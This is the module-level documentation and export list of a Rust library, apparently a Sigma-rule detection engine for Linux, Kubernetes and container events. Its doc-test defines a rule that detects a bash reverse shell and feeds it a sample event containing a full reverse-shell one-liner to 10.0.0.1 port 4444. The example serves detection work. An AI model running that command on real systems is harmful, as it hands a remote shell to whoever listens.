//! Sigma (spec 2.1) detection for Tripline: rules loaded unmodified from YAML, compiled once
//! into matchers, bucketed by logsource and indexed by literals so the cost per event grows
//! far slower than the number of rules.
//!
//! ```
//! use tripline_rules::{Engine, LogSource, RuleSet, Scratch, Settings};
//!
//! let yaml = r#"
//! title: Reverse shell via bash
//! id: 0c3c5c4e-1111-4222-8333-944445555666
//! author: Example Author
//! level: high
//! tags: [attack.execution, attack.t1059.004]
//! logsource: {product: linux, category: process_creation}
//! detection:
//!   selection:
//!     Image|endswith: /bash
//!     CommandLine|contains|all: ['-i', '/dev/tcp/']
//!   condition: selection
//! "#;
//! let mut set = RuleSet::new(Settings::default());
//! set.add_str(yaml, "example.yml");
//! assert!(set.rejected.is_empty());
//! let engine = Engine::new(&set);
//!
//! // Any `FieldSource` can be evaluated; here a JSON object with ECS names.
//! let event = serde_json::json!({
//!     "process": {"executable": "/usr/bin/bash", "command_line": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}
//! });
//! let ls = LogSource::new("linux", "process_creation", "");
//! let mut scratch = Scratch::new();
//! let mut matches = Vec::new();
//! engine.evaluate(&ls, &event, &mut scratch, &mut matches);
//! assert_eq!(matches.len(), 1);
//! let finding = engine.finding(&matches[0], &event).unwrap();
//! assert_eq!(finding.rule_title, "Reverse shell via bash");
//! assert_eq!(finding.attack[0].sub_technique.as_ref().unwrap().id, "T1059.004");
//! assert_eq!(finding.severity.unwrap().level, tripline_schema::SeverityLevel::High);
//! assert_eq!(finding.author.as_deref(), Some("Example Author"));
//! ```
//!
//! Layers: [`RuleSet`] loads files, directories and multi-document YAML into [`Rule`],
//! [`Filter`] and [`Correlation`] values (rejecting each bad document with an [`Error`] that
//! names file, title, id and reason); [`Engine`] compiles them through a [`Pipeline`] (the
//! logsource field mappings, data in `pipelines/default.yml`) and evaluates events. Detection is
//! state-free: each [`Match`] names a rule index, so a correlation stage can consume matches.
//!
//! Logsources (the identity passed with each event; rules are bucketed by theirs first):
//!
//! | events | logsource | field names rules use |
//! |---|---|---|
//! | raw audit records | `product: linux, service: auditd` | the record's own: `type`, `a0`…, `exe`, `key`, ENRICHED `SYSCALL` |
//! | normalized process / file / network events | `product: linux, category: process_creation \| process_access \| file_event \| network_connection` | Sysmon taxonomy (`Image`, `CommandLine`, `SourceImage`, `TargetImage`, `TargetFilename`, `DestinationIp`…) mapped to ECS (`tripline.target_process.*` for access targets) |
//! | Kubernetes audit | `product: kubernetes, service: audit` | the audit event's own (`verb`, `objectRef.resource`) |
//! | Falco alerts | `product: falco, service: alerts` | Falco's (`rule`, `priority`, `proc.cmdline`, `container.id`…) |
//! | Tracee events | `product: tracee, service: events` | Tracee's (`eventName`, `processName`, `containerId`…) |
//! | Docker engine events / container logs | `product: docker, service: events \| logs` | Docker's (`Action`, `Actor.ID`, `log`…) |
//! | syslog-style lines | `product: linux[, service: sshd \| syslog …]` | keywords over the line |
//!
//! ECS dotted names (`process.executable`, `container.id`) are accepted under every logsource.
//! [`Engine::fields_read`] lists, for a logsource, the event fields the loaded rules read (with
//! the names each is read by, and whether every event is read for it): what a shipper must
//! keep, and what a source must carry for the rules to work.
//!
//! Semantics chosen where the specification leaves room (each pinned by a test):
//! keywords are case-insensitive substrings of the raw message ([`FieldSource::raw_text`],
//! else the pipeline's `keyword_fields`); numbers compare with their decimal text (`a1: 777`
//! matches `"777"`); list values match when any element matches; `null` matches absent or null
//! fields; `|neq` matches when the field does not equal any value (also when absent); `them`
//! skips `_`-prefixed identifiers; encoded values (`base64`…) compare case-insensitively like
//! all strings.

#![forbid(unsafe_code)]
#![deny(missing_docs)]

mod compile;
pub mod condition;
pub mod correlation;
mod encode;
mod engine;
mod error;
pub mod findings;
mod index;
mod load;
mod modifier;
mod pattern;
mod pipeline;
mod rule;
mod settings;

pub use condition::{Condition, Target};
pub use engine::{Engine, EngineStats, FieldRead, FieldsRead, Finding, Match, ReadWhen, Scratch};
pub use error::{Error, Location, SNIPPET_MAX};
pub use load::{LoadStats, RuleSet};
pub use modifier::Modifier;
pub use pipeline::{LogSourceMatch, Mapping, Pipeline};
pub use rule::{
    CmpOp, Correlation, CorrelationType, Detection, FieldItem, Filter, Level, LogSource, Meta,
    Rule, Selection, SigmaValue,
};
pub use settings::Settings;
pub use tripline_schema::{Attack, FieldName, FieldSource, FlatEvent, Severity, Value};
